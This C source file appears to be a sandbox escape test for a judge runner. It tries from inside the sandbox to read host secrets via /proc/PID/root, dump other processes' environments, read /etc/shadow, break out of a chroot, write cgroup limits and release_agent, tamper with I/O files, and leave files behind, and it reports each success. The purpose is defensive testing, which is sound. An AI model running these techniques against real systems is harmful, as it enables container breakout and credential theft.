/* fsescape.c — filesystem attacks (REFERENCE §3.6). The runner passes host
 * paths (a secret, a canary); nothing inside the box may reach them. The
 * program prints whatever it manages to read, so a leak shows up as the
 * secret's content in the output, which the runner looks for.
 *   read PATH...    open each path directly, through /proc/1/root, through
 *                   /proc/self/root/.., and through every visible
 *                   /proc/PID/root and /proc/PID/cwd
 *   env             dump our environment and every visible /proc/PID/environ
 *                   and cmdline (the judge's own environment must not leak)
 *   write NONCE PATH...  append to each host path, and create
 *                   jpatk_escape_NONCE in /, /tmp, /var/tmp, /dev/shm, /usr,
 *                   /etc, /run, /proc/1/root/tmp, ...; the runner checks the
 *                   host afterwards
 *   chroot PATH...  the classic chroot escape (chroot into a subdir, chdir ..
 *                   many times, chroot "."), then read PATHs
 *   proc1           look around /proc/1/root, /proc/1/cwd, mountinfo
 *   cgroup          try to write our own cgroup's limits and release_agent
 *   reopen          reopen our stdin/stdout/stderr host files through
 *                   /proc/self/fd/N for writing (test data tampering) and
 *                   report where they live on the host
 *   plant NONCE     leave files and a SysV shm segment behind
 *   find NONCE      look for what "plant" left (must find nothing) */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/stat.h>

#include "atk.h"

#define SHM_KEY 0x4a504154 /* "JPAT" */

static void dump(const char *label, const char *path) {
  int fd = open(path, O_RDONLY | O_NONBLOCK);
  if (fd < 0) return;
  char buf[4097];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return;
  for (ssize_t i = 0; i < n; i++)
    if (buf[i] == 0) buf[i] = ' ';
  buf[n] = 0;
  atk_say("READ %s %s: %s", label, path, buf);
  if (strstr(buf, "JPATKSECRET")) ESCAPED("read a host secret through %s", path);
}

static int is_pid(const char *s) {
  if (!*s) return 0;
  for (; *s; s++)
    if (*s < '0' || *s > '9') return 0;
  return 1;
}

static void each_pid(void (*fn)(const char *pid, void *), void *arg) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  while (d && (e = readdir(d)))
    if (is_pid(e->d_name)) fn(e->d_name, arg);
  if (d) closedir(d);
}

static void read_via_pid(const char *pid, void *arg) {
  const char *path = arg;
  char p[PATH_MAX];
  snprintf(p, sizeof p, "/proc/%s/root%s", pid, path);
  dump("via-root", p);
  snprintf(p, sizeof p, "/proc/%s/cwd/../../../../../../..%s", pid, path);
  dump("via-cwd", p);
}

static void read_all(int argc, char **argv) {
  for (int i = 0; i < argc; i++) {
    char p[PATH_MAX];
    dump("direct", argv[i]);
    snprintf(p, sizeof p, "/proc/self/root/../../../..%s", argv[i]);
    dump("self-root", p);
    snprintf(p, sizeof p, "../../../../../../..%s", argv[i]);
    dump("dotdot", p);
    each_pid(read_via_pid, argv[i]);
  }
}

static void env_of(const char *pid, void *arg) {
  (void)arg;
  char p[64];
  snprintf(p, sizeof p, "/proc/%s/environ", pid);
  dump("environ", p);
  snprintf(p, sizeof p, "/proc/%s/cmdline", pid);
  dump("cmdline", p);
}

static void try_create(const char *dir, const char *nonce) {
  char p[PATH_MAX];
  snprintf(p, sizeof p, "%s/jpatk_escape_%s", dir, nonce);
  int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0666);
  if (fd >= 0) {
    if (write(fd, "jpatk\n", 6) < 0) atk_say("write %s failed", p);
    close(fd);
    atk_say("CREATED %s (the runner checks the host side)", p);
  }
}

static void try_append(const char *path) {
  int fd = open(path, O_WRONLY | O_APPEND);
  if (fd < 0) {
    atk_say("append %s: %s", path, strerror(errno));
    return;
  }
  ssize_t w = write(fd, "jpatk-tampered\n", 15);
  close(fd);
  atk_say("APPENDED %s (%zd bytes; the runner checks the host side)", path, w);
}

static void cgroup_attack(void) {
  FILE *f = fopen("/proc/self/cgroup", "r");
  char line[1024];
  while (f && fgets(line, sizeof line, f)) {
    atk_say("cgroup line %s", line);
    line[strcspn(line, "\n")] = 0;
    char *ctl = strchr(line, ':'), *path;
    if (!ctl || !(path = strchr(ctl + 1, ':'))) continue;
    *path++ = 0;
    ctl++;
    const char *files[] = {"memory.limit_in_bytes", "memory.max", "pids.max", "cgroup.procs",
                           "pids.limit", "memory.memsw.limit_in_bytes"};
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
      char p[PATH_MAX];
      snprintf(p, sizeof p, "/sys/fs/cgroup/%s%s/%s", *ctl ? ctl : "", path, files[i]);
      int fd = open(p, O_WRONLY);
      if (fd >= 0) {
        ssize_t w = write(fd, "max", 3);
        if (w < 0) w = write(fd, "9223372036854771712", 19);
        if (w > 0) ESCAPED("wrote our own cgroup limit %s", p);
        close(fd);
      }
    }
  }
  if (f) fclose(f);
  const char *agents[] = {"/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/pids/release_agent",
                          "/sys/fs/cgroup/release_agent", "/proc/sys/kernel/core_pattern",
                          "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger"};
  for (size_t i = 0; i < sizeof agents / sizeof agents[0]; i++) {
    int fd = open(agents[i], O_WRONLY);
    if (fd >= 0) {
      ESCAPED("opened %s for writing", agents[i]);
      close(fd);
    }
  }
}

int main(int argc, char **argv) {
  const char *m = argc > 1 ? argv[1] : "";
  if (!strcmp(m, "read")) {
    read_all(argc - 2, argv + 2);
    atk_say("read done");
    return 0;
  }
  if (!strcmp(m, "env")) {
    extern char **environ;
    for (char **e = environ; *e; e++) atk_say("ENV %s", *e);
    each_pid(env_of, NULL);
    atk_say("env done");
    return 0;
  }
  if (!strcmp(m, "write") && argc > 2) {
    const char *nonce = argv[2];
    for (int i = 3; i < argc; i++) {
      char p[PATH_MAX];
      try_append(argv[i]);
      snprintf(p, sizeof p, "/proc/1/root%s", argv[i]);
      try_append(p);
      snprintf(p, sizeof p, "%s", argv[i]);
      char *slash = strrchr(p, '/');
      if (slash) {
        *slash = 0;
        try_create(p, nonce);
      }
    }
    const char *dirs[] = {"", "/tmp", "/var/tmp", "/dev/shm", "/usr", "/usr/local", "/etc", "/run",
                          "/home", "/root", "/proc/1/root", "/proc/1/root/tmp", "/proc/1/cwd",
                          "/lib", "/bin", "/sys/fs/cgroup", "/dev", "/var"};
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) try_create(dirs[i], nonce);
    atk_say("write done");
    return 0;
  }
  if (!strcmp(m, "chroot")) {
    mkdir("jpatk_cr", 0755);
    if (chroot("jpatk_cr") == 0) {
      for (int i = 0; i < 64; i++)
        if (chdir("..")) break;
      if (chroot(".") == 0) atk_say("chroot escape performed");
    } else {
      atk_say("chroot: %s", strerror(errno));
    }
    read_all(argc - 2, argv + 2);
    atk_say("chroot done");
    return 0;
  }
  if (!strcmp(m, "proc1")) {
    const char *links[] = {"/proc/1/root", "/proc/1/cwd", "/proc/1/exe", "/proc/self/root"};
    for (size_t i = 0; i < sizeof links / sizeof links[0]; i++) {
      char t[PATH_MAX];
      ssize_t n = readlink(links[i], t, sizeof t - 1);
      if (n >= 0) {
        t[n] = 0;
        atk_say("LINK %s -> %s", links[i], t);
      }
    }
    const char *dirs[] = {"/proc/1/root", "/proc/1/root/tmp", "/proc/1/root/root", "/", "/tmp",
                          "/etc", "/dev", "/run"};
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
      DIR *d = opendir(dirs[i]);
      struct dirent *e;
      while (d && (e = readdir(d))) atk_say("LIST %s/%s", dirs[i], e->d_name);
      if (d) closedir(d);
    }
    dump("mountinfo", "/proc/self/mountinfo");
    dump("passwd", "/etc/passwd");
    dump("shadow", "/etc/shadow");
    dump("shadow", "/proc/1/root/etc/shadow");
    atk_say("proc1 done");
    return 0;
  }
  if (!strcmp(m, "reopen")) {
    for (int fd = 0; fd <= 2; fd++) {
      char p[64], t[PATH_MAX];
      snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
      ssize_t n = readlink(p, t, sizeof t - 1);
      if (n >= 0) {
        t[n] = 0;
        atk_say("fd %d is %s", fd, t);
      }
      int w = open(p, O_WRONLY | O_APPEND);
      if (w >= 0) {
        ssize_t k = write(w, "jpatk-tampered\n", 15);
        atk_say("REOPENED fd %d for writing (%zd bytes written; the runner checks the host file)", fd, k);
        close(w);
      } else {
        atk_say("reopen fd %d for writing: %s", fd, strerror(errno));
      }
    }
    char buf[64];
    if (read(0, buf, sizeof buf) < 0) atk_say("read stdin failed");
    atk_say("reopen done");
    return 0;
  }
  if (!strcmp(m, "cgroup")) {
    cgroup_attack();
    atk_say("cgroup done");
    return 0;
  }
  if (!strcmp(m, "plant") && argc > 2) {
    const char *dirs[] = {".", "/tmp", "/dev/shm", "/var/tmp"};
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
      char p[PATH_MAX];
      snprintf(p, sizeof p, "%s/jpatk_persist", dirs[i]);
      int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0666);
      if (fd >= 0) {
        if (write(fd, argv[2], strlen(argv[2])) < 0) atk_say("write %s failed", p);
        close(fd);
        atk_say("planted %s", p);
      }
    }
    int id = shmget(SHM_KEY, 4096, IPC_CREAT | 0666);
    if (id >= 0) {
      char *s = shmat(id, NULL, 0);
      if (s != (void *)-1) {
        snprintf(s, 4096, "%s", argv[2]);
        atk_say("planted shm %d", id);
      }
    }
    return 0;
  }
  if (!strcmp(m, "find") && argc > 2) {
    const char *dirs[] = {".", "/tmp", "/dev/shm", "/var/tmp"};
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
      char p[PATH_MAX];
      snprintf(p, sizeof p, "%s/jpatk_persist", dirs[i]);
      if (access(p, F_OK) == 0) ESCAPED("found a leftover %s from the previous run", p);
    }
    int id = shmget(SHM_KEY, 0, 0);
    if (id >= 0) ESCAPED("found the previous run's SysV shm segment %d", id);
    atk_say("find done");
    return 0;
  }
  fprintf(stderr, "usage: fsescape read|env|write|chroot|proc1|cgroup|plant|find ...\n");
  return 64;
}
